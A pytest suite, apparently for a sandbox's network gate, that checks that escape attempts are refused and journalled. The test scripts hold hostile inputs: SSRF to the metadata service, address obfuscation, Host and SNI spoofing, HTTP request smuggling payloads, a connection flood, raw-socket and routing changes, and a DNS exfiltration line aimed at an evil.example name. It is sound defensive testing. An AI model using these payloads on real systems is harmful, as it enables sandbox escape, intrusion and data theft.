"""Ways past the line, tried from inside a real box. Each is refused, with its entry in the journal where it gets as far as the gate, and each has a
control: the same act where a rule allows it, or the same bytes from outside, gets through."""
import json
import re
import socketserver
import threading
import time
import typing

import pytest

import patience
from carrel import BUILD
from conftest import Gated
from kinds import PROXY
from tally import attack, counts


PRELUDE = """
import socket, ssl, struct, sys, time
def dial(host, port, data=b"", wait=5):
    out = b""
    try:
        s = socket.create_connection((host, port), 5); s.settimeout(wait)
        if data: s.sendall(data)
        while part := s.recv(65536): out += part
    except (ConnectionResetError, BrokenPipeError): return "reset"  # it may come as early as that
    except socket.timeout: return "timeout " + out.decode("latin-1")
    return out.decode("latin-1")
def say(text):
    print(str(text)[:300].replace("\\r\\n", " "))
def inside(host, port, name, says=None):
    c = ssl._create_unverified_context(); c.check_hostname = False
    s = c.wrap_socket(socket.create_connection((host, port), 5), server_hostname=name); s.settimeout(5)
    s.sendall(f"GET / HTTP/1.1\\r\\nHost: {says or host}:{port}\\r\\nConnection: close\\r\\n\\r\\n".encode())
    out = b""
    try:
        while part := s.recv(65536): out += part
    except OSError: pass
    return out.decode("latin-1")
def get(host, port, path="/", name=None, more="", version="1.1", method="GET", body="", wait=5):
    name = host if name is None else name
    return dial(host, port, f"{method} {path} HTTP/{version}\\r\\nHost: {name}\\r\\nConnection: close\\r\\n{more}\\r\\n{body}".encode(), wait)
"""

NO_RULE = "no rule allows the request"
OTHER_HOST = "the Host field differs from the host of the connection"


class Row(typing.NamedTuple):
    """What is tried, what the machine sees of it, and what the journal says: host, port and reason, word for word."""
    name: str
    script: str
    seen: str
    host: str
    port: object
    reason: str
    control: tuple = None  # a rule, and what is seen where there is that one


HTTP, TLS, TCP = "{http}", "{https}", "{tcp}"
ROWS = [
    Row("a host that no rule names", "say(get('other.test', {http}))", " 403 ", "other.test", HTTP, NO_RULE, ("other.test:{http}", " 200 ")),
    Row("an address dialled directly", "say(get('203.0.113.7', {http}))", " 403 ", "203.0.113.7", HTTP, NO_RULE),
    Row("the metadata service", "say(get('169.254.169.254', 80))", " 403 ", "169.254.169.254", 80, NO_RULE),
    Row("a private address", "say(get('10.0.0.1', {http}))", " 403 ", "10.0.0.1", HTTP, NO_RULE),
    Row("bytes to an address", "say(dial('8.8.8.8', 53, b'\\x00\\x1d' + b'x' * 29))", "reset", "8.8.8.8", 53, NO_RULE),
    Row("another port of an allowed host", "say(get('ok.test', {tcp}, wait=2))", " 403 ", "ok.test", TCP, NO_RULE, ("tcp://ok.test:{tcp}", "hello")),
    Row("a decimal address", "say(get('3405803783', {http}, name='3405803783'))", " 403 ", "203.0.113.7", HTTP, "malformed Host field"),
    Row("an octal address", "say(get('0313.0.0161.7', {http}))", " 403 ", "203.0.113.7", HTTP, "malformed Host field"),
    Row("a mapped address", "s = socket.socket(socket.AF_INET6); s.settimeout(5); s.connect(('::ffff:203.0.113.7', {http})); s.sendall(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); say(s.recv(99))", " 403 ",
        "203.0.113.7", HTTP, OTHER_HOST),
    Row("a name that leads to a private address", "say(get('private.test', 8080))", " 403 ", "private.test", 8080, "host 'private.test' resolves to a private address"),
    Row("Host of another", "say(get('ok.test', {http}, name='other.test'))", " 403 ", "ok.test", HTTP, OTHER_HOST),
    Row("Host with another port", "say(get('ok.test', {http}, name='ok.test:1'))", " 403 ", "ok.test", HTTP, "the port in the Host field differs from the port of the connection"),
    Row("no Host", "say(dial('ok.test', {http}, b'GET / HTTP/1.1\\r\\nConnection: close\\r\\n\\r\\n'))", " 400 ", "ok.test", HTTP, "header field Host is missing"),
    Row("two Hosts", "say(get('ok.test', {http}, more='Host: other.test\\r\\n'))", " 400 ", "ok.test", HTTP, "header field Host is given twice"),
    Row("absolute form to another host", "say(get('ok.test', {http}, path='http://other.test/'))", " 403 ", "ok.test", HTTP, OTHER_HOST),
    Row("CONNECT outside of the proxy", "say(dial('ok.test', {http}, b'CONNECT other.test:80 HTTP/1.1\\r\\nHost: other.test:80\\r\\n\\r\\n'))", " 403 ", "ok.test", HTTP, "the method CONNECT works only with the proxy at port 3128"),
    Row("a second request for another host", "say(dial('ok.test', {http}, b'GET / HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: other.test\\r\\nConnection: close\\r\\n\\r\\n').split('HTTP/1.1')[-1])", " 403 ",
        "ok.test", HTTP, OTHER_HOST),
    Row("TLS named for another", "say(inside('ok.test', {https}, 'other.test'))", " 403 ", "ok.test", TLS, "the server name in the TLS ClientHello differs from the host of the connection"),
    Row("TLS without a name", "say(inside('ok.test', {https}, None))", " 403 ", "ok.test", TLS, "the TLS ClientHello has no server name"),
    Row("TLS to a host that no rule names", "say(inside('other.test', {https}, 'other.test'))", " 403 ", "other.test", TLS, NO_RULE, ("https://other.test:{https}", " 200 ")),
    Row("another Host inside TLS", "say(inside('api.test', {https}, 'api.test', 'other.test'))", " 403 ", "api.test", TLS, OTHER_HOST),
    Row("TLS that makes no sense", "say(dial('ok.test', {https}, b'\\x16\\x03\\x01\\x00\\x05\\x02aaaa'))", "reset", "ok.test", TLS, "malformed TLS ClientHello"),
    Row("other bytes where TLS is allowed", "say(dial('ok.test', {https}, b'SSH-2.0-x\\r\\n'))", "reset", "ok.test", TLS, NO_RULE),
    Row("smuggling by two lengths", "say(get('ok.test', {http}, method='POST', more='Content-Length: 4\\r\\nContent-Length: 44\\r\\n', body='aaaa'))", " 400 ", "ok.test", HTTP, "Content-Length is given twice"),
    Row("smuggling by length and chunks",
        "say(get('ok.test', {http}, method='POST', more='Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n', body='0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n'))", " 400 ",
        "ok.test", HTTP, "both Content-Length and Transfer-Encoding are given"),
    Row("smuggling by another coding", "say(get('ok.test', {http}, method='POST', more='Transfer-Encoding: xchunked\\r\\n', body='0\\r\\n\\r\\n'))", " 400 ", "ok.test", HTTP, "Transfer-Encoding does not end in chunked"),
    Row("a bare LF", "say(dial('ok.test', {http}, b'GET / HTTP/1.1\\nHost: ok.test\\n\\n'))", " 400 ", "ok.test", HTTP, "a line of the HTTP message ends without CR LF"),
    Row("a header flood", "say(get('ok.test', {http}, more='X: y\\r\\n' * 5000))", " 431 ", "ok.test", HTTP, "too many header fields"),
    Row("the HTTP/2 preface", "say(dial('ok.test', {http}, b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'))", " 505 ", "ok.test", HTTP, "only HTTP/1.0 and HTTP/1.1 are supported"),
    Row("the gate's own port", f"say(dial('{PROXY}', 3129, b'GET / HTTP/1.1\\r\\n\\r\\n'))", "reset", PROXY, 3129, "the destination is the gate itself"),
    Row("another host through the proxy", f"say(dial('{PROXY}', 3128, b'GET http://other.test:{{http}}/ HTTP/1.1\\r\\nHost: other.test:{{http}}\\r\\nConnection: close\\r\\n\\r\\n'))", " 403 ", "other.test", HTTP, NO_RULE),
    Row("another host by CONNECT", f"say(dial('{PROXY}', 3128, b'CONNECT other.test:{{http}} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: other.test:{{http}}\\r\\n\\r\\n').split('HTTP/1.1')[-1])", " 403 ",
        "other.test", HTTP, NO_RULE),
    Row("data hidden in a name", "say(socket.gethostbyname('c2VjcmV0.evil.example') + get('c2VjcmV0.evil.example', 80))", " 403 ", "c2vjcmv0.evil.example", 80, NO_RULE),
]


def metric(daemon, outcome):
    text = daemon.request("GET", "/metrics", raw=True).decode()
    return int(re.search(rf'^carrel_gate_crossings_total{{outcome="{outcome}"}} (\d+)$', text, re.M)[1])


@pytest.fixture(scope="module")
def box(gated_session, servers):
    m = gated_session.machine()
    for target in (f"http://ok.test:{servers.http}", f"https://ok.test:{servers.https}"):
        gated_session.allow(m, target)
    gated_session.allow(m, f"https://api.test:{servers.https}/", methods="GET")
    gated_session.post(f"/v1/machines/{m}/net/rules", {"target": "private.test:8080"})
    yield m
    gated_session.clear()


def filled(servers, text):
    for key in ("http", "https", "tcp"):
        text = str(text).replace("{" + key + "}", str(getattr(servers, key)))
    return text


@pytest.mark.parametrize("row", ROWS, ids=lambda r: r.name.replace(" ", "-"))
def test_refused(gated_session, servers, box, row):
    before = len(gated_session.notes(box, verb="net.deny", count=0))
    servers.forget()
    done = gated_session.python(box, PRELUDE + filled(servers, row.script), timeout="30s")
    assert row.seen in done["stdout"], done
    assert not any("smuggled" in r["path"] or ("other.test" in dict(r["headers"]).get("Host", "")) for r in servers.web.seen)
    (note,) = gated_session.notes(box, verb="net.deny", count=before + 1)[before:]
    assert (note["detail"]["host"], note["detail"]["port"], note["reason"]) == (row.host, int(filled(servers, row.port)), row.reason), note
    attack()
    if row.control:
        rule, seen = row.control
        m = gated_session.machine(net=[{"target": filled(servers, rule), "local": True}])
        done = gated_session.python(m, PRELUDE + filled(servers, row.script), timeout="30s")
        assert seen in done["stdout"], done
        counts["with a control that got through"] += 1


def test_h2c_goes_on_as_what_it_then_is(gated_session, servers, box):
    """An upgrade that is no websocket's is left out of the request: it is an ordinary one, and nothing of it is left."""
    before = len(gated_session.notes(box, verb="net.allow", count=0))
    servers.forget()
    more = "Upgrade: h2c\\r\\nConnection: Upgrade, HTTP2-Settings\\r\\nHTTP2-Settings: AAMAAABk\\r\\n"
    done = gated_session.python(box, PRELUDE + f"say(get('ok.test', {servers.http}, more='{more}'))")
    assert " 200 " in done["stdout"], done
    assert not {"upgrade", "http2-settings"} & {name.lower() for name, _ in servers.web.seen[-1]["headers"]}
    (note,) = gated_session.notes(box, verb="net.allow", count=before + 1)[before:]
    assert [note["detail"][k] for k in ("host", "port", "method", "path")] == ["ok.test", servers.http, "GET", "/"]
    attack()


def test_control_every_allowed_thing_gets_through(gated_session, servers, box):
    script = PRELUDE + f"say(get('ok.test', {servers.http}))"
    assert "200 OK" in gated_session.python(box, script)["stdout"]


def test_a_redirect_does_not_lead_out(gated_session, servers, box):
    before = len(gated_session.notes(box, verb="net.deny", count=0))
    done = gated_session.exec(box, ["curl", "-sSL", "--max-time", "20", f"http://ok.test:{servers.http}/redirect"])
    assert "may not reach '169.254.169.254:80': " in done["stdout"]
    (note,) = gated_session.notes(box, verb="net.deny", count=before + 1)[before:]
    assert (note["detail"]["host"], note["detail"]["port"], note["reason"]) == ("169.254.169.254", 80, NO_RULE)
    attack()


def test_slow_requests_end(gated_session, servers, box):
    script = PRELUDE + f"""
s = socket.create_connection(("ok.test", {servers.http})); s.settimeout(30); began = time.monotonic()
try:
    for c in "GET / HTTP/1.1\\r\\nHost: ok.test\\r\\n" + "X: y\\r\\n" * 100:
        s.sendall(c.encode()); time.sleep(0.1)
    say("taken")
except OSError as e: say("ended")
print(time.monotonic() - began < 20)
"""
    before = len(gated_session.notes(box, verb="net.deny", count=0))
    assert gated_session.python(box, script, timeout="60s")["stdout"].split() == ["ended", "True"]
    (note,) = gated_session.notes(box, verb="net.deny", count=before + 1)[before:]
    assert (note["detail"]["host"], note["detail"]["port"], note["reason"]) == ("ok.test", servers.http, "the request did not arrive in time")
    attack()


def test_ten_thousand_connections_hurt_nobody_else(gated_session, servers, box):
    """Beyond its share each is reset at once; the daemon serves on meanwhile, and the machine after them."""
    other = gated_session.machine(net=[{"target": f"ok.test:{servers.http}", "local": True}])
    script = PRELUDE + """
import resource
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
kept, reset = [], 0
for i in range(10000):
    s = socket.socket()
    try: s.connect(("198.51.100.7", 9))
    except OSError: reset += 1; s.close(); continue
    kept.append(s)
    if len(kept) > 2000:
        kept.pop(0).close()
print("done")
"""
    before = metric(gated_session, "too_many")
    x = gated_session.background(box, ["python3", "-c", script], timeout="100s")
    done = gated_session.exec(other, ["curl", "-sS", "--max-time", "30", f"http://ok.test:{servers.http}/meanwhile"])
    assert '"/meanwhile"' in done["stdout"]
    assert gated_session.wait(box, x, 110)["status"] == 0
    assert metric(gated_session, "too_many") > before  # some were above its share
    reasons = {n["reason"] for n in gated_session.notes(box, verb="net.deny")}
    assert "the machine has too many open connections" in reasons, reasons
    attack(10000, journalled=False)  # the journal says it for the crowd, not for each
    gated_session.until(lambda: "200 OK" in gated_session.python(
        box, PRELUDE + f"say(get('ok.test', {servers.http}))")["stdout"], 30)


# ---- what the kernel refuses, before the gate could hear of it ----


ATTEMPT = PRELUDE + """
import ctypes, errno
def named(f):
    try: r = f()
    except OSError as e: return errno.errorcode[e.errno]
    return errno.errorcode[-r] if type(r) is int and r < 0 else "done"
def send(family, to, **how):
    def f():
        s = socket.socket(family, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        if how: s.connect(to); s.send(b"x" * 30)
        else: s.sendto(b"x" * 30, to)
    return f
def route(kind, body):
    def f():
        n = socket.socket(16, 3, 0); n.bind((0, 0))
        n.send(struct.pack("IHHII", 16 + len(body), kind, 5, 1, 0) + body)
        return struct.unpack("i", n.recv(4096)[16:20])[0]
    return f
def write(path): open(path, "w").write("1")
four, six = socket.AF_INET, socket.AF_INET6
libc = ctypes.CDLL(None, use_errno=True)
def unshare(): return -ctypes.get_errno() if libc.unshare(0x40000000) else 0
"""

# What is sent and refused is counted by the kernel: what, how the call fails, and the journal's protocol and packets.
COUNTED = [
    ("a query to a name server outside", "send(four, ('8.8.8.8', 53))", "EPERM", "udp", "datagrams dropped: machines may only use TCP"),
    ("QUIC", "send(four, ('203.0.113.7', 443), connected=True)", "EPERM", "udp", "datagrams dropped: machines may only use TCP"),
    ("multicast", "send(four, ('224.0.0.251', 5353))", "EPERM", "udp", "datagrams dropped: machines may only use TCP"),
    ("broadcast", "send(four, ('255.255.255.255', 67))", "EPERM", "udp", "datagrams dropped: machines may only use TCP"),
    ("IPv6 by TCP", "lambda: socket.socket(six).connect(('2001:db8::1', 443))", "ENETUNREACH", "ipv6", "no route: machines have no IPv6"),
    ("IPv6 by UDP", "send(six, ('2001:db8::1', 53))", "ENETUNREACH", "ipv6", "no route: machines have no IPv6"),
]

# The call itself is refused, for want of a capability or by seccomp: nothing is sent that anybody could count. The kernel's audit log would know,
# but that is the host's, and a machine must not be able to fill it. So there is no entry, and the line is shown to be where it was.
UNCOUNTED = [
    ("ping", "lambda: socket.socket(four, socket.SOCK_DGRAM, 1)", "EACCES"),
    ("raw ICMP", "lambda: socket.socket(four, socket.SOCK_RAW, 1)", "EPERM"),
    ("raw TCP", "lambda: socket.socket(four, socket.SOCK_RAW, 6)", "EPERM"),
    ("packets", "lambda: socket.socket(17, socket.SOCK_RAW, 0x300)", "EAFNOSUPPORT"),
    ("SCTP", "lambda: socket.socket(four, socket.SOCK_STREAM, 132)", "EPROTONOSUPPORT"),
    ("the hypervisor", "lambda: socket.socket(40, socket.SOCK_STREAM)", "EAFNOSUPPORT"),
    ("rules of its own", "lambda: socket.socket(16, 3, 12)", "EAFNOSUPPORT"),
    ("a transparent socket", "lambda: socket.socket().setsockopt(0, 19, 1)", "EPERM"),
    ("a mark", "lambda: socket.socket().setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 1)", "EPERM"),
    ("loopback taken down", "route(16, struct.pack('BBHiII', 0, 0, 0, 1, 0, 1))", "EPERM"),
    ("an address more", "route(20, struct.pack('BBBBIHH4s', 2, 24, 0, 0, 1, 8, 2, bytes((10, 0, 0, 1))))", "EPERM"),
    ("the route taken away", "route(25, struct.pack('BBBBBBBBI', 2, 0, 0, 0, 255, 4, 254, 2, 0))", "EPERM"),
    ("a policy of routes", "route(32, struct.pack('BBBBBBBBI', 2, 0, 0, 0, 254, 0, 0, 1, 0))", "EPERM"),
    ("a network of its own", "unshare", "EPERM"),
    ("forwarding", "lambda: write('/proc/sys/net/ipv4/ip_forward')", "EACCES"),
]


@pytest.mark.parametrize("name,script,failure,protocol,why", COUNTED, ids=[r[0].replace(" ", "-") for r in COUNTED])
def test_the_kernel_refuses_and_the_journal_counts(gated_session, name, script, failure, protocol, why):
    m = gated_session.machine()
    assert gated_session.python(m, ATTEMPT + f"say(named({script})); say(named({script}))", user="root")["stdout"].split() == [failure, failure]
    gated_session.delete(f"/v1/machines/{m}")  # its last words are read at its end
    (note,) = gated_session.notes(m)
    assert (note["verb"], note["reason"], note["detail"]) == ("net.refused", why, {"protocol": protocol, "packets": 2, "total": 2}), note
    attack(2)


def test_what_the_kernel_refuses_is_told_while_it_runs(gated_session):
    """A line for all of a second, with what came since the line before; after a restart the total says what is new."""
    m = gated_session.machine()
    x = gated_session.background(m, ["python3", "-c", ATTEMPT + "for i in range(4): [named(send(four, ('8.8.8.8', 53))) for _ in range(500)]; time.sleep(0.7)"])
    assert gated_session.wait(m, x, 30)["status"] == 0

    def told():
        notes = gated_session.notes(m, verb="net.refused")
        return notes if notes[-1]["detail"]["total"] == 2000 else None
    notes = gated_session.until(told, 10)
    assert 2 <= len(notes) <= 5 and sum(n["detail"]["packets"] for n in notes) == 2000, notes
    text = gated_session.request("GET", "/metrics", raw=True).decode()
    assert int(re.search(r'outcome="refused"} (\d+)', text)[1]) >= 2000
    attack(2000, journalled=False)  # the journal says it for the crowd, not for each


def test_what_the_kernel_refused_outlives_the_daemon(gated_session):
    """The kernel goes on counting; the next daemon tells what there is, and the total says what is new."""
    m = gated_session.machine()
    send = ATTEMPT + "say(named(send(four, ('8.8.8.8', 53))))"
    gated_session.python(m, send)
    gated_session.notes(m, verb="net.refused")
    gated_session.restart()
    gated_session.python(m, send)
    gated_session.delete(f"/v1/machines/{m}")
    totals = [n["detail"]["total"] for n in gated_session.notes(m, verb="net.refused")]
    assert totals[0] == 1 and totals[-1] == 2 and totals == sorted(totals), totals
    attack(2)


def test_what_is_refused_in_the_call_changes_nothing(gated_session):
    box = gated_session.machine()
    lines = "; ".join(f"say(named({script}))" for _, script, _ in UNCOUNTED)
    out = gated_session.python(box, ATTEMPT + lines + "; say(get('203.0.113.7', 80))", user="root")["stdout"].splitlines()
    assert dict(zip((name for name, _, _ in UNCOUNTED), out)) == {name: failure for name, _, failure in UNCOUNTED}
    # The line is where it was: what it then tried is refused, and that is all that ever came to it.
    assert " 403 " in out[len(UNCOUNTED)]
    gated_session.delete(f"/v1/machines/{box}")
    assert [(n["verb"], n["detail"]["host"], n["reason"]) for n in gated_session.notes(box)] == [("net.deny", "203.0.113.7", NO_RULE)]
    attack(len(UNCOUNTED), journalled=False)


# ---- servers that lie ----


class Raw(socketserver.ThreadingTCPServer):
    """Answers every head with these bytes, whatever they are, and stays."""
    daemon_threads = True

    def __init__(self, answer):
        class Handler(socketserver.BaseRequestHandler):
            def handle(self):
                self.request.settimeout(20)
                while (head := self.request.recv(65536)):
                    if b"\r\n\r\n" in head:
                        self.request.sendall(answer)
        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()


LIES = {
    "two lengths": (b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 99\r\n\r\nok", "Content-Length is given twice"),
    "length and chunks": (b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nsmuggled", "both Content-Length and Transfer-Encoding are given"),
    "a coding that nobody knows": (b"HTTP/1.1 200 OK\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", "Transfer-Encoding does not end in chunked"),
    "a bare LF": (b"HTTP/1.1 200 OK\nContent-Length: 2\n\nok", "a line of the HTTP message ends without CR LF"),
    "a folded field": (b"HTTP/1.1 200 OK\r\nX: a\r\n b\r\nContent-Length: 2\r\n\r\nok", "a header field is folded over two lines"),
    "a flood of fields": (b"HTTP/1.1 200 OK\r\n" + b"X: y\r\n" * 20000 + b"\r\n", "too many header fields"),
    "no HTTP": (b"SSH-2.0-OpenSSH\r\n\r\n", "the message is not HTTP"),
    "an upgrade": (b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n", "the server answered with an upgrade that was not requested"),
}


@pytest.mark.parametrize("lie", LIES)
def test_an_answer_that_can_be_read_in_two_ways_is_not_passed_on(gated_session, lie):
    answer, why = LIES[lie]
    server = Raw(answer)
    port = server.server_address[1]
    m = gated_session.machine()
    gated_session.allow(m, f"http://ok.test:{port}")
    done = gated_session.python(m, PRELUDE + f"say(get('ok.test', {port}))", timeout="30s")
    server.shutdown()
    assert " 502 " in done["stdout"] and "smuggled" not in done["stdout"], done
    (note,) = gated_session.notes(m, verb="net.deny")
    assert note["reason"] == "the server's answer is refused: " + why
    assert [note["detail"][k] for k in ("host", "port", "method", "path")] == ["ok.test", port, "GET", "/"]
    attack()


def test_a_second_answer_is_nobodys(gated_session):
    """Bytes behind an answer do not become the answer to the next request."""
    server = Raw(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nokHTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\nsmuggled")
    port = server.server_address[1]
    m = gated_session.machine()
    gated_session.allow(m, f"http://ok.test:{port}")
    done = gated_session.python(m, PRELUDE + f"""
import http.client
c = http.client.HTTPConnection("ok.test", {port}, timeout=10)
for n in range(3):
    try:
        c.request("GET", "/")
        say(c.getresponse().read())
    except (OSError, http.client.HTTPException) as e:
        say(type(e).__name__); c.close()
""", timeout="40s")
    server.shutdown()
    assert "b'ok'" in done["stdout"] and "smuggled" not in done["stdout"], done
    # What was let through is all there is: each request dialled anew, and nothing came to it from the one before.
    notes = gated_session.notes(m, verb="net.allow", count=3)
    assert [[n["detail"][k] for k in ("host", "port", "method", "path")] for n in notes] == [["ok.test", port, "GET", "/"]] * 3
    attack()


# ---- a machine that plays with its side of a socket ----


class Trick(typing.NamedTuple):
    act: str
    verb: str  # of the journal's entry about what it asked for
    path: str
    reason: str
    each: bool = True  # it always gets as far as a whole request, or as a refusal
    ends: tuple = ("the machine closed the connection",)  # why it is closed, once it was let through


BIG = "/big/12000000"  # more than every buffer on its way holds
TRICKS = {
    "never reads": Trick("s.sendall(req * 50); time.sleep(0.1)", "net.allow", BIG, None),
    "urgent data": Trick("s.send(b'!', socket.MSG_OOB); s.sendall(req); time.sleep(0.1)", "net.allow", BIG, None),
    "half closed": Trick("s.sendall(req[:-2]); s.shutdown(socket.SHUT_WR); s.recv(999)", "net.deny", None, "the connection ended in the middle of the request", ends=()),
    "reset at once": Trick("s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0)); s.sendall(req); s.close()", "net.allow", BIG, None, each=False),
    "a window of nothing": Trick("s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1); s.sendall(req * 20); time.sleep(0.1)", "net.allow", BIG, None),
    "byte by byte": Trick("[(s.sendall(req[i:i + 1]), time.sleep(0.001)) for i in range(len(req))]; s.recv(999)", "net.allow", BIG, None),
}


@pytest.mark.parametrize("name", TRICKS)
def test_a_socket_that_is_played_with_blocks_nobody(gated_session, servers, name):
    trick, times = TRICKS[name], 20
    script = PRELUDE + f"""
req = b"GET {BIG} HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n"
for _ in range({times}):
    try:
        s = socket.create_connection(("ok.test", {servers.http})); s.settimeout(5)
        {trick.act}
    except OSError: pass
print("done")
"""
    box, other = [gated_session.machine(net=[{"target": f"http://ok.test:{servers.http}", "local": True}]) for _ in range(2)]
    x = gated_session.background(box, ["python3", "-c", script], timeout="60s")
    for _ in range(5):
        began = time.monotonic()
        done = gated_session.exec(other, ["curl", "-sS", "--max-time", "20", f"http://ok.test:{servers.http}/meanwhile"])
        assert '"/meanwhile"' in done["stdout"] and time.monotonic() - began < 5 * patience.PATIENCE, done
    assert gated_session.wait(box, x, 90)["status"] == 0

    def settled():
        found = gated_session.notes(box)
        verbs = [n["verb"] for n in found]
        return found if verbs.count("net.allow") == verbs.count("net.close") else None
    # Each that got as far as that stands in the journal with what it wanted, where, and what became of it; and nothing else does.
    notes = gated_session.until(settled)
    told = [n for n in notes if n["verb"] == trick.verb]
    assert {(n["detail"]["host"], n["detail"]["port"], n["detail"].get("path"), n.get("reason")) for n in told} <= {("ok.test", servers.http, trick.path, trick.reason)}
    assert len(told) == times if trick.each else told, (len(told), notes)
    closed = [n for n in notes if n not in told]
    assert {(n["verb"], n["detail"]["host"], n["detail"]["port"]) for n in closed} <= {("net.close", "ok.test", servers.http)}, closed
    assert {n.get("reason") for n in closed} == {*trick.ends}, closed
    attack(times)


# ---- names that change ----


class Named(socketserver.ThreadingTCPServer):
    """Says at which address it was reached."""
    daemon_threads = True
    allow_reuse_address = True

    def __init__(self, address, port=0):
        class Handler(socketserver.StreamRequestHandler):
            def handle(self):
                self.rfile.readline()
                text = address.encode()
                self.wfile.write(b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s" % (len(text), text))
        super().__init__((address, port), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()


@pytest.fixture
def turning(servers, tmp_path):
    """A daemon whose name server changes its mind after the first question."""
    preload = BUILD / "tests/daemon/libturn-names.so"
    d = Gated(servers.dir / "ca.pem")
    d.kill()
    d.start(env={"LD_PRELOAD": str(preload), "TURN_NAMES": str(tmp_path / "asked")})
    yield d
    d.stop()


def test_a_name_that_is_turned_leads_where_it_was_looked_up(turning, tmp_path):
    """What was looked at is what is dialled: a second answer, which leads elsewhere, is nobody's."""
    first = Named("127.0.0.2")
    port = first.server_address[1]
    second = Named("127.0.0.1", port)
    box = turning.machine()
    turning.allow(box, f"http://a.turn.test:{port}")
    for _ in range(5):
        assert turning.python(box, PRELUDE + f"say(get('a.turn.test', {port}))")["stdout"].split()[-1] == "127.0.0.2"
    assert {n["detail"]["address"].rsplit(":", 1)[0] for n in turning.notes(box, verb="net.allow", count=5)} == {"127.0.0.2"}
    assert (tmp_path / "asked").read_text() == "a.turn.test\n", "it is looked up once"
    # Another name is asked for now, and answered with what no rule allows: refused by the address, whatever the name.
    turning.post(f"/v1/machines/{box}/net/rules", {"target": f"http://b.turn.test:{port}"})
    done = turning.python(box, PRELUDE + f"say(get('b.turn.test', {port}))")
    (note,) = turning.notes(box, verb="net.deny")
    assert " 403 " in done["stdout"], done
    assert (note["detail"]["host"], note["detail"]["port"], note["reason"]) == ("b.turn.test", port, "host 'b.turn.test' resolves to a loopback address")
    for s in (first, second):
        s.shutdown()
    attack(6)
